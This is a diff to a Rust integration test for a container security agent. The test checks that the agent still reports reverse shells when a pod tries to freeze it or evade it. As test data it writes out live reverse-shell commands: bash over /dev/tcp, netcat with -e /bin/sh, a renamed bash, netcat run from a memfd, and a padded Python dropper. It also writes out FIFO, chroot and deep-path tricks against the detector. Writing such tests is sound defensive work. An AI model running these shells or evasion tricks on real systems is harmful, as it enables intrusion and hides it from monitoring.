@@ -1,8 +1,12 @@
 //! Privileged: what a container does to the files the agent reads cannot freeze it. In real CRI
 //! pods, Python is pointed at a FIFO nobody writes to and at `/proc/kmsg` (a "regular file" whose
-//! read blocks), and the configuration given to the agent is a FIFO or `/dev/zero`. After each
-//! trick a canary reverse shell from the same pod must still be reported, within seconds, and
-//! the health endpoint must answer.
+//! read blocks), a program runs in a chroot whose path in the container's root is a FIFO, an
+//! executable sits more than 48 directories deep, and the configuration given to the agent is a
+//! FIFO or `/dev/zero`. After each trick a canary reverse shell from the same pod must still be
+//! reported, within seconds, and the health endpoint must answer. Nor can an attack slip past by
+//! its name or encoding: renamed shells, netcat from a memfd or under a name that is not UTF-8,
+//! a Python payload after padding, and a reverse shell that was running before the agent started
+//! are all reported, while junk given to Python is not.
 
 #[path = "common/agent.rs"]
 mod agent;
@@ -17,7 +21,7 @@ use std::{
 };
 
 use agent::{http_get, listen, start_agent};
-use common::privileged;
+use common::{privileged, DROPPER};
 use containerd::{Containerd, PodSpec};
 use serde_json::Value;
 
@@ -41,16 +45,31 @@ async fn files_a_container_controls_cannot_freeze_the_agent() {
     let agent = start_agent(&dir, "hard", &ctrd.socket, false);
     // Each trick runs in the background of its pod; 3 s later the pod's canary reverse shell
     // calls a listener of ours, which checks that the shell really answered.
+    let deep = "/tmp".to_string() + &"/d".repeat(60);
+    let tail = "/d".repeat(47);
+    let deep_trick = format!(
+        "mkdir -p {deep} {tail} && cp /usr/bin/nc.traditional {deep}/nc && mkfifo {tail}/nc && {deep}/nc -e /bin/true 127.0.0.1 9"
+    );
     let tricks = [
-        ("fifo-script", "mkfifo /tmp/job.py; python3 /tmp/job.py"),
-        ("kmsg-script", "python3 /proc/kmsg"),
-        ("fifo-relative", "mkdir -p /w && cd /w && mkfifo run.py && python3 run.py"),
+        ("fifo-script", "mkfifo /tmp/job.py; python3 /tmp/job.py".to_string()),
+        ("kmsg-script", "python3 /proc/kmsg".to_string()),
+        ("fifo-relative", "mkdir -p /w && cd /w && mkfifo run.py && python3 run.py".to_string()),
+        // The program's path in the container's root is a FIFO; in its chroot, a busybox.
+        (
+            "fifo-chroot",
+            "mkdir -p /j/x /j/bin /x && cp /usr/bin/busybox /j/x/busybox && mkfifo /x/busybox && ln -s /x/busybox /j/bin/sh \
+             && chroot /j /x/busybox nc -e /bin/sh 127.0.0.1 9"
+                .to_string(),
+        ),
+        // Deeper than the kernel's path walk; the last 47 components are a FIFO from the root.
+        ("fifo-deep-path", deep_trick),
     ];
-    for (pod, trick) in tricks {
+    for (pod, trick) in &tricks {
         let l = listen("id; exit\n");
         let cmd = format!("({trick}) >/dev/null 2>&1 & sleep 3; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", l.port);
         let started = Instant::now();
         let running = ctrd.run_pod(&PodSpec::new(pod, &["/bin/bash", "-c", &cmd])).await;
+        let pod = *pod;
         let answer = l.thread.join().unwrap();
         assert!(answer.contains("uid="), "{pod}: the canary shell ran: {answer:?}");
         let deadline = started + Duration::from_secs(20);
@@ -66,6 +85,159 @@ async fn files_a_container_controls_cannot_freeze_the_agent() {
     }
     let (_, log) = agent.stop();
     assert!(log.contains("shrike stopped"), "{log}");
+    ctrd.stop();
+}
+
+fn findings_of<'a>(findings: &'a [Value], pod: &str, category: &str) -> Vec<&'a Value> {
+    findings
+        .iter()
+        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod && f["finding"]["category"] == category)
+        .collect()
+}
+
+const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
+const PYTHON: &str = "Execution: Malicious Python executed";
+
+/// Attacks that once slipped past by name or encoding are reported with the right category, and
+/// their benign look-alikes (a renamed shell that talks to no one, a renamed `cat`, junk given to
+/// Python) raise nothing. A reverse shell that was running before the agent started is reported.
+#[tokio::test(flavor = "current_thread")]
+async fn attacks_cannot_hide_behind_names_encodings_or_padding() {
+    if !privileged("attacks_cannot_hide_behind_names_encodings_or_padding") {
+        return;
+    }
+    let ctrd = Containerd::start();
+    let dir = ctrd.dir.join("evasion");
+    std::fs::create_dir_all(&dir).unwrap();
+    // Scripts reach the pods through a read-only mount of this directory.
+    let scripts = dir.join("scripts");
+    std::fs::create_dir_all(&scripts).unwrap();
+    {
+        use std::os::unix::ffi::OsStrExt;
+        std::fs::write(scripts.join(std::ffi::OsStr::from_bytes(b"\xffx.py")), DROPPER).unwrap();
+    }
+    let mut padded = String::new();
+    let mut i = 0;
+    while padded.len() < 300 * 1024 {
+        padded.push_str(&format!("# configuration note {i}: values are read from the environment\n"));
+        i += 1;
+    }
+    padded.push_str(DROPPER);
+    std::fs::write(scripts.join("padded.py"), &padded).unwrap();
+    std::fs::write(scripts.join("nul.py"), vec![0u8; 100_000]).unwrap();
+    let with_scripts = |name: &str, cmd: &str| {
+        let mut s = PodSpec::new(name, &["/bin/bash", "-c", cmd]);
+        s.extra_mounts.push((scripts.clone(), "/scripts".into(), true));
+        s
+    };
+
+    // Started before the agent: a reverse shell whose listener stays quiet until the agent runs,
+    // and a benign shell beside it.
+    let early = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let early_port = early.local_addr().unwrap().port();
+    let early_pod = ctrd
+        .run_pod(&PodSpec::new("early-shell", &["/bin/bash", "-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{early_port} 0>&1")]))
+        .await;
+    let quiet_pod = ctrd.run_pod(&PodSpec::new("early-quiet", &["/bin/bash", "-c", "exec sleep 600"])).await;
+    early.set_nonblocking(false).unwrap();
+    let (mut early_conn, _) = early.accept().unwrap();
+
+    let agent = start_agent(&dir, "evasion", &ctrd.socket, false);
+    {
+        use std::io::{Read, Write};
+        early_conn.write_all(b"id; exit\n").unwrap();
+        early_conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+        let mut answer = Vec::new();
+        let _ = early_conn.read_to_end(&mut answer);
+        assert!(String::from_utf8_lossy(&answer).contains("uid="), "the early shell answered: {}", String::from_utf8_lossy(&answer));
+    }
+
+    // (pod, command using the listener's port as {P}, expected category and evidence, or none)
+    type Check = fn(&Value) -> bool;
+    let recognised_bash: Check = |f| f["finding"]["sourceProperties"]["Executable_Recognised_As"] == "bash";
+    let any: Check = |_| true;
+    let odd_path: Check = |f| {
+        f["finding"]["processes"][0]["script"]["path"].as_str().is_some_and(|p| p.starts_with("/scripts/") && p.ends_with("x.py"))
+    };
+    let cases: Vec<(&str, String, Option<(&str, Check)>)> = vec![
+        (
+            "renamed-bash",
+            "cp /bin/bash /tmp/kworker && exec /tmp/kworker -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; exec /tmp/kworker -i <&3 >&3 2>&3'".into(),
+            Some(("Reverse Shell", recognised_bash)),
+        ),
+        (
+            "memfd-netcat",
+            "exec python3 -c \"import os; fd = os.memfd_create('kworker'); os.write(fd, open('/usr/bin/nc.traditional', 'rb').read()); \
+             os.execve(fd, ['kworker', '-e', '/bin/sh', '127.0.0.1', '{P}'], dict(os.environ))\""
+                .into(),
+            Some((NETCAT, any)),
+        ),
+        (
+            "odd-name-netcat",
+            "cp /usr/bin/nc.traditional $'/tmp/\\377nc' && exec $'/tmp/\\377nc' -e /bin/sh 127.0.0.1 {P}".into(),
+            Some((NETCAT, any)),
+        ),
+        ("odd-name-python", "python3 $'/scripts/\\377x.py'; sleep 2".into(), Some((PYTHON, odd_path))),
+        ("padded-python", "python3 /scripts/padded.py; sleep 2".into(), Some((PYTHON, any))),
+        // Look-alikes: nothing to report.
+        ("renamed-bash-offline", "cp /bin/bash /tmp/kworker && /tmp/kworker -c 'echo hello; id' && sleep 2".into(), None),
+        ("renamed-cat", "cp /bin/cat /tmp/kcat && /tmp/kcat -e /etc/hostname && /tmp/kcat -c 2>/dev/null; sleep 2".into(), None),
+        (
+            "python-junk",
+            "python3 /scripts/nul.py; python3 -c \"pass$(printf '%*s' 60000 '')\"; python3 -c \"$(printf '%*s' 60000 '')\"; sleep 2".into(),
+            None,
+        ),
+    ];
+    for (pod, cmd, expect) in &cases {
+        let l = cmd.contains("{P}").then(|| listen("id; exit\n"));
+        let cmd = match &l {
+            Some(l) => cmd.replace("{P}", &l.port.to_string()),
+            None => cmd.clone(),
+        };
+        let started = Instant::now();
+        let running = ctrd.run_pod(&with_scripts(pod, &cmd)).await;
+        if let Some(l) = l {
+            let answer = l.thread.join().unwrap();
+            assert!(answer.contains("uid="), "{pod}: the attack really ran: {answer:?}");
+        }
+        match expect {
+            Some((category, check)) => {
+                let deadline = started + Duration::from_secs(20);
+                loop {
+                    let findings = agent.findings();
+                    let found = findings_of(&findings, pod, category);
+                    if let Some(f) = found.first() {
+                        assert!(check(f), "{pod}: {category} lacks its evidence: {f:#}");
+                        break;
+                    }
+                    assert!(Instant::now() < deadline, "{pod}: no {category}; findings {findings:#?}");
+                    tokio::time::sleep(Duration::from_millis(100)).await;
+                }
+                println!("{pod}: {category} after {:?}", started.elapsed());
+            }
+            None => {
+                // Let the pod finish and the settle window pass.
+                tokio::time::sleep(Duration::from_secs(4)).await;
+                let findings = agent.findings();
+                let own: Vec<_> = findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == *pod).collect();
+                assert!(own.is_empty(), "{pod}: a look-alike was reported: {own:#?}");
+            }
+        }
+        ctrd.remove_pod(&running).await;
+    }
+    let findings = agent.findings();
+    let early = findings_of(&findings, "early-shell", "Reverse Shell");
+    assert!(
+        early.iter().any(|f| f["finding"]["sourceProperties"]["Running_Before_Agent_Start"] == true),
+        "the reverse shell running before the agent started: {findings:#?}"
+    );
+    assert!(
+        findings.iter().all(|f| f["finding"]["sourceProperties"]["Pod_Name"] != "early-quiet"),
+        "the quiet pod that predates the agent: {findings:#?}"
+    );
+    ctrd.remove_pod(&early_pod).await;
+    ctrd.remove_pod(&quiet_pod).await;
+    let _ = agent.stop();
     ctrd.stop();
 }
 
